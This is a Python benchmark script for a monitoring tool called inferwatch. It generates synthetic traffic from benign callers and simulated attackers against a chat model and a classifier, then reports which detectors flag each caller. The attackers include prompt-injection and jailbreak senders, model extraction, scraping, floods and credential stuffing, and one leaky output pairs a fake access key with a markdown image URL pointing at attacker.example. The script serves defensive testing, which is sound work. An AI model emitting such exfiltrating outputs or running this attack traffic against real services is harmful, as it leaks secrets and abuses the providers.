"""Per-caller evaluation: benign callers mixed with attackers of every kind, through every detector.

A seeded generator writes six hours of traffic for a service with a chat model and a tabular
model: a few hundred benign callers of varied habits (chat users who retry and edit, tabular
clients, a batch summariser with a templated prompt, long-document users, an office behind one
NAT address, a user who mistypes a key, steady heavy users) and one attacker of each kind the
issue names. The events go through the detector pipeline exactly as ``inferwatch replay`` runs
it (all registered detectors at their defaults, 60 s windows, incidents filed), and the script
prints, for each caller kind, whether it was flagged, by which detectors, after how many of its
own events, and the severity its incident reached. The same events go through a hand-made
ElastAlert-style frequency rule (``baseline_scanners.fixed_threshold_rule``) side by side.

    python benchmarks/caller_scenarios.py            # the table (about a minute)
    python benchmarks/caller_scenarios.py --json     # machine-readable results
    python benchmarks/caller_scenarios.py --write-events events.jsonl   # to replay by hand

Benign prompts come from ``shared/datasets/prompts/benign.jsonl`` (``shared/`` beside the
repository; ``INFERWATCH_DATASETS`` points at another copy) and
``benchmarks/data/ordinary_prompts.jsonl``; attack prompts from ``attacks.jsonl``. Which
attack prompts an attacker sends is random (seeded), so a per-request detector that misses some
must catch the attacker on the others: that is what per-caller aggregation is for.
"""

from __future__ import annotations

import argparse
import json
import random
import re
import string
import sys
import time
from collections import Counter, defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
from external_prompts import SHARED_PROMPTS

from inferwatch.collectors.event import AgentInfo, EventInput, EventOutput, InferenceEvent, encode_event
from inferwatch.detectors.base import SEVERITY_ORDER, Finding
from inferwatch.detectors.incidents import IncidentManager
from inferwatch.detectors.pipeline import Pipeline
from inferwatch.detectors.registry import build_detectors
from inferwatch.detectors.store import IncidentQuery
from inferwatch.testing import memory_store

ROOT = Path(__file__).resolve().parents[1]
DATASETS = SHARED_PROMPTS  # shared/datasets/prompts beside the repository, or $INFERWATCH_DATASETS/prompts
START = datetime(2026, 3, 2, 6, 0, tzinfo=UTC).timestamp()
HOURS = 6.0
WINDOW_S = 60.0
CHAT, TABULAR = "chat-model", "iris-classifier"
SERVICE = "assistant"
TAB_FEATURES = ("sepal_length", "sepal_width", "petal_length", "petal_width")
TAB_CLASSES = (  # per-class means and standard deviations, the shape of the iris data
    ("setosa", (5.0, 3.4, 1.5, 0.25), (0.35, 0.38, 0.17, 0.1)),
    ("versicolor", (5.9, 2.8, 4.3, 1.3), (0.5, 0.3, 0.47, 0.2)),
    ("virginica", (6.6, 3.0, 5.6, 2.0), (0.63, 0.32, 0.55, 0.27)),
)
_COUNTRY_NAMES = (
    "France Germany Spain Italy Portugal Poland Austria Hungary Romania Bulgaria Greece Turkey Egypt "
    "Kenya Nigeria Ghana Morocco Algeria Tunisia Ethiopia Sudan Brazil Argentina Chile Peru Bolivia "
    "Colombia Venezuela Ecuador Uruguay Paraguay Mexico Canada Cuba Jamaica Haiti Panama Guatemala "
    "Honduras Nicaragua Japan China India Pakistan Nepal Bhutan Vietnam Laos Cambodia Thailand "
    "Malaysia Indonesia Philippines Mongolia Kazakhstan Uzbekistan Iran Iraq Syria Jordan Israel "
    "Lebanon Yemen Oman Qatar Kuwait Bahrain Norway Sweden Finland Denmark Iceland Ireland Belgium "
    "Netherlands Luxembourg Switzerland Czechia Slovakia Slovenia Croatia Serbia Albania Estonia "
    "Latvia Lithuania Ukraine Belarus Moldova Georgia Armenia Azerbaijan Australia Fiji Samoa Tonga"
)
COUNTRIES = _COUNTRY_NAMES.split()


# awesome-chatgpt-prompts, the role-play source labelled benign, includes a DAN jailbreak
# ("... the role of another AI model known as DAN ..."): a benign user would not send it.
MISLABELLED = re.compile(r"\bDAN\b")


@dataclass
class Caller:
    """One caller in the scenario: who, what it is, and what should catch it."""

    subject: str
    role: str  # "benign" or "attacker"
    kind: str
    expect: tuple[str, ...] = ()
    events: list[float] = field(default_factory=list)  # event times, for "events until detection"


@dataclass
class Scenario:
    events: list[InferenceEvent]
    callers: dict[str, Caller]


class _Builder:
    """Collects events and callers; every event is built here so they all look alike."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.np = np.random.default_rng(seed)
        self.events: list[InferenceEvent] = []
        self.callers: dict[str, Caller] = {}
        self._n = 0

    def caller(self, subject: str, role: str, kind: str, expect: tuple[str, ...] = ()) -> str:
        self.callers[subject] = Caller(subject, role, kind, expect)
        return subject

    def chat(self, ts: float, subject: str, text: str, *, principal: str | None = None,
             ip: str | None = None, output: str | None = None, out_tokens: int | None = None,
             status: int = 200, attributes: dict[str, Any] | None = None,
             in_tokens: int | None = None) -> None:
        out_text = output if output is not None else self._answer(text)
        self._add(ts, subject, principal=principal, ip=ip, model=CHAT, status=status,
                  input=EventInput(text=text, chars=len(text), tokens=in_tokens or _tokens(text)),
                  output=EventOutput(text=out_text if status < 400 else None,
                                     chars=len(out_text) if status < 400 else None,
                                     tokens=(out_tokens or _tokens(out_text)) if status < 400 else None,
                                     finish_reason="stop" if status < 400 else None),
                  attributes=attributes or {}, operation="chat", endpoint="/v1/chat/completions")

    def predict(self, ts: float, subject: str, features: dict[str, float], *, principal: str,
                ip: str | None = None) -> None:
        label = _nearest_class(features)
        self._add(ts, subject, principal=principal, ip=ip, model=TABULAR, status=200,
                  input=EventInput(features=features), output=EventOutput(label=label, score=0.9),
                  attributes={}, operation="predict", endpoint="/predict")

    def _add(self, ts: float, subject: str, *, principal: str | None, ip: str | None, model: str,
             status: int, input: EventInput, output: EventOutput, attributes: dict[str, Any],
             operation: str, endpoint: str) -> None:
        self._n += 1
        self.events.append(InferenceEvent(
            id=f"sc-{self._n:07d}", time=datetime.fromtimestamp(ts, UTC),
            duration_ms=round(self.rng.uniform(20, 900), 1), service=SERVICE, model=model,
            operation=operation, endpoint=endpoint, principal=principal, client_ip=ip, status=status,
            trace_id=f"{self._n:032x}", input=input, output=output, attributes=attributes,
        ))
        self.callers[subject].events.append(ts)

    def _answer(self, prompt: str) -> str:
        words = prompt.split()[:12]
        body = " ".join(self.rng.choice(words) if words else "ok" for _ in range(self.rng.randint(30, 160)))
        return f"Here is what I found. {body}."

    def times(self, rate_per_min: float, start: float, end: float) -> Iterator[float]:
        """A Poisson process of ``rate_per_min`` between ``start`` and ``end`` (Unix seconds)."""
        t = start
        while True:
            t += self.rng.expovariate(rate_per_min / 60.0)
            if t >= end:
                return
            yield t


def _tokens(text: str) -> int:
    return max(1, len(text) // 4)


def _nearest_class(features: dict[str, float]) -> str:
    x = np.array([features[f] for f in TAB_FEATURES])
    return min(TAB_CLASSES, key=lambda c: float(np.sum(((x - np.array(c[1])) / np.array(c[2])) ** 2)))[0]


def _read(path: Path) -> list[dict[str, Any]]:
    with path.open(encoding="utf-8") as fh:
        return [json.loads(line) for line in fh if line.strip()]


def _prompt_pools() -> dict[str, list[str]]:
    benign = _read(DATASETS / "benign.jsonl")
    attacks = _read(DATASETS / "attacks.jsonl")
    ordinary = [r["text"] for r in _read(ROOT / "benchmarks" / "data" / "ordinary_prompts.jsonl")]
    by_cat: dict[str, list[str]] = defaultdict(list)
    for row in benign:
        if not MISLABELLED.search(row["text"]):
            by_cat[row["category"]].append(row["text"])
    pools = {
        "ordinary": ordinary,
        "math": by_cat["math_word_problem"],
        "code": by_cat["code_completion"],
        "roleplay": by_cat["role_play_instruction"],
        "security": by_cat["security_topic"],
        "injection": [r["text"] for r in attacks if r["category"] == "prompt_injection.direct"
                      and "multilingual" not in r["source"]],
        "jailbreak": [r["text"] for r in attacks if "jailbreak" in r["category"]],
    }
    pools["chat"] = (pools["ordinary"] * 3 + pools["math"][:600] + pools["roleplay"][:600]
                     + pools["security"][:300])
    return pools


def generate(seed: int = 0, benign: int = 300, hours: float = HOURS,
             pools: dict[str, list[str]] | None = None) -> Scenario:
    """Six hours (by default) of benign and attack traffic, deterministic for a seed.

    ``pools`` replaces the prompts read from the shared datasets (keys ``chat``, ``math``,
    ``roleplay``, ``code``, ``security``, ``injection``, ``jailbreak``), for tests without them.
    """
    b = _Builder(seed)
    pools = pools or _prompt_pools()
    end = START + hours * 3600
    _benign_callers(b, pools, benign, end)
    _attackers(b, pools, end)
    b.events.sort(key=lambda e: (e.time, e.id))
    for seq, event in enumerate(b.events):  # an agent numbers the calls it captures, in time order
        event.agent = AgentInfo(id="scenario", seq=seq, dropped=0)
    return Scenario(b.events, b.callers)


def _benign_callers(b: _Builder, pools: dict[str, list[str]], n: int, end: float) -> None:
    rng = b.rng
    n_tab = n // 4
    for i in range(n - n_tab):  # chat users: sessions of a few prompts, retries and small edits
        ip = f"10.1.{i // 250}.{i % 250 + 1}"
        subject = b.caller(f"principal:user-{i:04d}", "benign", "chat user")
        rate = float(b.np.lognormal(mean=-1.2, sigma=0.8))  # median ~0.3 requests/min
        last = None
        for ts in b.times(rate, START, end):
            if last is not None and rng.random() < 0.08:
                text = last  # a retry
            elif last is not None and rng.random() < 0.08:
                text = last + rng.choice((" Please be brief.", " In more detail?", " Thanks!"))
            else:
                text = rng.choice(pools["chat"])
            b.chat(ts, subject, text, principal=f"user-{i:04d}", ip=ip)
            last = text
    for i in range(n_tab):  # tabular clients with ordinary data
        subject = b.caller(f"principal:app-{i:04d}", "benign", "tabular client")
        rate = rng.uniform(0.3, 3.0)
        for ts in b.times(rate, START, end):
            _, mean, std = rng.choice(TAB_CLASSES)
            x = b.np.normal(mean, std)
            b.predict(ts, subject, {f: round(float(v), 2) for f, v in zip(TAB_FEATURES, x, strict=True)},
                      principal=f"app-{i:04d}", ip=f"10.2.0.{i % 250 + 1}")
    # A nightly-style batch job: one template, a whole document in the slot, steady and heavy.
    subject = b.caller("principal:batch-summariser", "benign", "templated batch job")
    docs = pools["math"] + pools["security"]
    for ts in b.times(12.0, START, end):
        b.chat(ts, subject, "Summarise the following text in one sentence:\n\n" + rng.choice(docs),
               principal="batch-summariser", ip="10.9.0.1")
    # Long-document users (contracts, reports): large but steady inputs.
    for k in range(3):
        subject = b.caller(f"principal:doc-reader-{k}", "benign", "long-document user")
        for ts in b.times(1.0, START, end):
            doc = " ".join(rng.choice(pools["security"]) for _ in range(12))
            b.chat(ts, subject, "Review this report and list the risks:\n" + doc,
                   principal=f"doc-reader-{k}", ip=f"10.9.1.{k + 1}")
    # Steady heavy users: a health check resending one prompt, an app polling the classifier.
    subject = b.caller("principal:healthcheck", "benign", "health check (repeats one prompt)")
    for ts in b.times(20.0, START, end):
        b.chat(ts, subject, "ping: reply with OK", principal="healthcheck", ip="10.9.2.1", output="OK")
    subject = b.caller("principal:dashboard", "benign", "busy tabular dashboard")
    for ts in b.times(15.0, START, end):
        _, mean, std = rng.choice(TAB_CLASSES)
        x = b.np.normal(mean, std)
        b.predict(ts, subject, {f: round(float(v), 2) for f, v in zip(TAB_FEATURES, x, strict=True)},
                  principal="dashboard", ip="10.9.2.2")
    # An office behind one NAT address: 12 principals share it.
    for k in range(12):
        subject = b.caller(f"principal:office-{k:02d}", "benign", "office behind one NAT address")
        for ts in b.times(0.5, START, end):
            b.chat(ts, subject, rng.choice(pools["chat"]), principal=f"office-{k:02d}", ip="198.51.100.7")
    # A user who mistypes the key a few times, then gets it right.
    subject = b.caller("ip:10.9.3.1", "benign", "user mistyping a key")
    for j, ts in enumerate(b.times(2.0, START + 3600, START + 3600 + 600)):
        b.chat(ts, subject, "hello", ip="10.9.3.1", status=401 if j < 4 else 200)


def _attackers(b: _Builder, pools: dict[str, list[str]], end: float) -> None:
    rng = b.rng
    t0 = START + 2 * 3600  # after the detectors have seen two hours of ordinary traffic

    def start(offset_min: float) -> float:
        return t0 + offset_min * 60

    def mixed(subject: str, principal: str, attacks: list[str], n_attacks: int, t: float,
              minutes: float, rate: float) -> None:
        """An ordinary-looking session with ``n_attacks`` attack prompts sprinkled in."""
        times = list(b.times(rate, t, t + minutes * 60))
        hits = set(rng.sample(range(len(times)), min(n_attacks, len(times))))
        for j, ts in enumerate(times):
            text = rng.choice(attacks) if j in hits else rng.choice(pools["chat"])
            b.chat(ts, subject, text, principal=principal, ip=f"203.0.113.{len(b.callers) % 250}")

    s = b.caller("principal:att-injector", "attacker", "prompt injection", ("prompt_injection",))
    mixed(s, "att-injector", pools["injection"], 8, start(0), 40, 1.0)
    s = b.caller("principal:att-jailbreaker", "attacker", "jailbreak", ("prompt_injection",))
    mixed(s, "att-jailbreaker", pools["jailbreak"], 5, start(5), 40, 1.0)

    s = b.caller("principal:att-exfil", "attacker", "data exfiltration in outputs", ("output_leak",))
    for j, ts in enumerate(b.times(1.0, start(10), start(50))):
        text = rng.choice(pools["chat"])
        key = "AKIA" + "".join(rng.choices(string.ascii_uppercase + "234567", k=16))
        url = f"https://attacker.example/c?d={j}x{rng.randint(10**6, 10**7)}"
        leak = f"Sure. The key is {key} and ![img]({url})" if j % 6 == 0 else None
        b.chat(ts, s, text, principal="att-exfil", ip="203.0.113.30", output=leak)

    s = b.caller("principal:att-extract-tabular", "attacker", "model extraction (random tabular queries)",
                 ("model_extraction",))
    for ts in b.times(10.0, start(15), start(75)):
        x = b.np.uniform((4.0, 1.8, 0.8, 0.0), (8.0, 4.5, 7.0, 2.6))
        b.predict(ts, s, {f: round(float(v), 2) for f, v in zip(TAB_FEATURES, x, strict=True)},
                  principal="att-extract-tabular", ip="203.0.113.40")
    s = b.caller("principal:att-extract-sweep", "attacker", "model extraction (templated text sweep)",
                 ("model_extraction",))
    for j, ts in enumerate(b.times(3.0, start(20), start(70))):
        country = COUNTRIES[j % len(COUNTRIES)]
        b.chat(ts, s, f"What is the capital of {country}? Answer with the city name only.",
               principal="att-extract-sweep", ip="203.0.113.41", output="Paris")

    s = b.caller("principal:att-scraper", "attacker", "scraping (distinct prompts at volume)", ("scraping",))
    scrape = pools["math"] + pools["roleplay"] + pools["code"]
    rng.shuffle(scrape)
    for j, ts in enumerate(b.times(40.0, start(25), start(85))):
        b.chat(ts, s, scrape[j % len(scrape)], principal="att-scraper", ip="203.0.113.50")
    s = b.caller("principal:att-slow-scraper", "attacker", "slow scraping (20 distinct prompts a minute)",
                 ("scraping",))
    for j, ts in enumerate(b.times(20.0, start(25), start(85))):
        b.chat(ts, s, scrape[-1 - j % len(scrape)], principal="att-slow-scraper", ip="203.0.113.52")
    s = b.caller("principal:att-enumerator", "attacker", "scraping (walking customer ids)", ("scraping",))
    for j, ts in enumerate(b.times(8.0, start(30), start(90))):
        b.chat(ts, s, f"Show the order history and address on file for customer #{100_231 + j}.",
               principal="att-enumerator", ip="203.0.113.51")

    s = b.caller("principal:att-flood", "attacker", "request flood", ("request_rate",))
    for ts in b.times(250.0, start(35), start(40)):
        b.chat(ts, s, "hi", principal="att-flood", ip="203.0.113.60", output="Hello!")
    s = b.caller("principal:att-token-hog", "attacker", "token flood (long completions)", ("token_abuse",))
    for ts in b.times(6.0, start(40), start(70)):
        b.chat(ts, s, "Write a very long story about anything.", principal="att-token-hog", ip="203.0.113.61",
               output="Once upon a time " * 400, out_tokens=4000, attributes={"max_tokens": 4000})
    s = b.caller("principal:att-stuffer", "attacker", "oversized inputs (context stuffing)", ("token_abuse",))
    for ts in b.times(0.5, start(45), start(75)):
        b.chat(ts, s, "Summarise: " + "lorem ipsum dolor sit amet " * 7000, principal="att-stuffer",
               ip="203.0.113.62")
    s = b.caller("principal:att-logprobs", "attacker", "logprob harvesting", ("token_abuse",))
    for ts in b.times(60.0, start(50), start(60)):
        b.chat(ts, s, rng.choice(pools["chat"]), principal="att-logprobs", ip="203.0.113.63",
               attributes={"logprobs": True, "top_logprobs": 20, "max_tokens": 1})

    s = b.caller("ip:203.0.113.70", "attacker", "credential stuffing (401 burst)", ("auth_abuse",))
    for ts in b.times(40.0, start(55), start(65)):
        b.chat(ts, s, "hello", ip="203.0.113.70", status=401)
    s = b.caller("ip:203.0.113.71", "attacker", "one address, many principals (stolen keys)", ("auth_abuse",))
    for k in range(40):
        sub = b.caller(f"principal:stolen-{k:02d}", "attacker-key", "stolen key")
        for ts in b.times(1.0, start(60), start(70)):
            b.chat(ts, sub, rng.choice(pools["chat"]), principal=f"stolen-{k:02d}", ip="203.0.113.71")
            b.callers[s].events.append(ts)

    s = b.caller("principal:att-oddball", "attacker", "behavioural outlier (odd inputs, many errors)",
                 ("behaviour_anomaly",))
    for ts in b.times(4.0, start(70), start(130)):
        blob = "".join(rng.choices(string.ascii_letters + string.digits + "+/", k=rng.randint(3000, 6000)))
        b.chat(ts, s, "decode " + blob, principal="att-oddball", ip="203.0.113.80",
               status=400 if rng.random() < 0.6 else 200, output="?")


@dataclass
class Outcome:
    caller: Caller
    detectors: Counter[str]
    first: float | None
    severity: str | None

    @property
    def flagged(self) -> bool:
        return self.first is not None

    @property
    def events_until(self) -> int | None:
        if self.first is None:
            return None
        return sum(1 for t in self.caller.events if t <= self.first)


def evaluate(scenario: Scenario, detector_names: list[str] | None = None) -> tuple[dict[str, Outcome], float]:
    """Run the pipeline over the scenario; return each caller's outcome and the events/s."""
    detectors = build_detectors(detector_names)
    store = memory_store()
    pipeline = Pipeline(detectors, IncidentManager(store), window_s=WINDOW_S)
    findings: list[Finding] = []
    began = time.perf_counter()
    for i in range(0, len(scenario.events), 2000):
        batch = pipeline.detect(scenario.events[i:i + 2000])
        findings += batch.findings
        pipeline.store(batch)
    last = pipeline.close_open_window()
    findings += last.findings
    pipeline.store(last)
    rate = len(scenario.events) / (time.perf_counter() - began)
    if pipeline.stats.detector_errors:
        print(f"detector errors: {dict(pipeline.stats.detector_errors)}", file=sys.stderr)
    by_subject: dict[str, list[Finding]] = defaultdict(list)
    for f in findings:
        by_subject[f.subject].append(f)
    severity: dict[str, str] = {}
    for inc in store.list_incidents(IncidentQuery(limit=100_000)):
        if SEVERITY_ORDER[inc.severity] > SEVERITY_ORDER.get(severity.get(inc.subject, "info"), 0):
            severity[inc.subject] = inc.severity
        severity.setdefault(inc.subject, inc.severity)
    out = {}
    for subject, caller in scenario.callers.items():
        found = by_subject.get(subject, [])
        out[subject] = Outcome(caller, Counter(f.detector for f in found),
                               min((f.time.timestamp() for f in found), default=None), severity.get(subject))
    for subject in sorted(set(by_subject) - set(scenario.callers)):  # models, not callers
        detectors = Counter(f.detector for f in by_subject[subject])
        print(f"findings about {subject}: {dict(detectors)}")
    return out, rate


def baseline_outcomes(scenario: Scenario) -> set[str] | None:
    """Subjects a hand-made ElastAlert-style frequency rule alerts on, if the module is there."""
    try:
        from baseline_scanners import fixed_threshold_rule  # type: ignore[import-not-found]
    except ImportError:
        return None
    principals: set[str] = fixed_threshold_rule(scenario.events)
    return {p if ":" in p else f"principal:{p}" for p in principals}


def report(scenario: Scenario, outcomes: dict[str, Outcome], rate: float,
           baseline: set[str] | None) -> dict[str, Any]:
    attackers = [o for o in outcomes.values() if o.caller.role == "attacker"]
    benign = [o for o in outcomes.values() if o.caller.role == "benign"]
    print(f"{len(scenario.events):,} events, {len(benign)} benign callers, {len(attackers)} attackers; "
          f"pipeline {rate:,.0f} events/s\n")
    print("| attacker | expected | caught by | events until first finding | incident severity | "
          "frequency rule |")
    print("|---|---|---|---:|---|---|")
    for o in sorted(attackers, key=lambda o: o.caller.kind):
        by = ", ".join(f"{d} ({n})" for d, n in o.detectors.most_common()) or "**missed**"
        base = "-" if baseline is None else ("yes" if o.caller.subject in baseline else "no")
        until = f"{o.events_until if o.flagged else '-'} of {len(o.caller.events)}"
        expect = ", ".join(o.caller.expect)
        print(f"| {o.caller.kind} | {expect} | {by} | {until} | {o.severity or '-'} | {base} |")
    flagged_benign = [o for o in benign if o.flagged]
    kinds = Counter(o.caller.kind for o in benign)
    flagged_kinds = Counter(o.caller.kind for o in flagged_benign)
    print("\n| benign kind | callers | flagged | by | frequency rule flagged |")
    print("|---|---:|---:|---|---:|")
    for kind, n in sorted(kinds.items()):
        by = Counter[str]()
        for o in flagged_benign:
            if o.caller.kind == kind:
                by.update(o.detectors)
        base = "-" if baseline is None else str(sum(
            1 for o in benign if o.caller.kind == kind and o.caller.subject in baseline))
        print(f"| {kind} | {n} | {flagged_kinds.get(kind, 0)} | "
              f"{', '.join(f'{d} ({c})' for d, c in by.most_common()) or '-'} | {base} |")
    caught = sum(o.flagged for o in attackers)
    expected = sum(bool(set(o.caller.expect) & set(o.detectors)) for o in attackers)
    print(f"\nattackers caught {caught}/{len(attackers)} (by the expected detector {expected}); "
          f"benign callers flagged {len(flagged_benign)}/{len(benign)}")
    if baseline is not None:
        b_caught = sum(o.caller.subject in baseline for o in attackers)
        b_benign = sum(o.caller.subject in baseline for o in benign)
        print(f"frequency rule: attackers caught {b_caught}/{len(attackers)}; "
              f"benign callers flagged {b_benign}/{len(benign)}")
    return {
        "events": len(scenario.events), "events_per_s": round(rate),
        "attackers": {o.caller.kind: {"caught_by": dict(o.detectors), "events_until": o.events_until,
                                      "events": len(o.caller.events), "severity": o.severity}
                      for o in attackers},
        "benign_flagged": {o.caller.subject: dict(o.detectors) for o in flagged_benign},
        "attackers_caught": caught, "attackers_total": len(attackers),
        "benign_total": len(benign), "benign_flagged_total": len(flagged_benign),
    }


def write_events(scenario: Scenario, path: Path) -> None:
    with path.open("wb") as fh:
        for event in scenario.events:
            fh.write(encode_event(event) + b"\n")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--benign", type=int, default=300, help="benign callers (default 300)")
    parser.add_argument("--json", action="store_true", help="print the results as JSON")
    parser.add_argument("--write-events", type=Path, help="also write the events as JSONL")
    args = parser.parse_args(argv)
    scenario = generate(args.seed, args.benign)
    if args.write_events:
        write_events(scenario, args.write_events)
    outcomes, rate = evaluate(scenario)
    result = report(scenario, outcomes, rate, baseline_outcomes(scenario))
    if args.json:
        print(json.dumps(result, indent=2))
    return 0

if __name__ == "__main__":
    sys.exit(main())
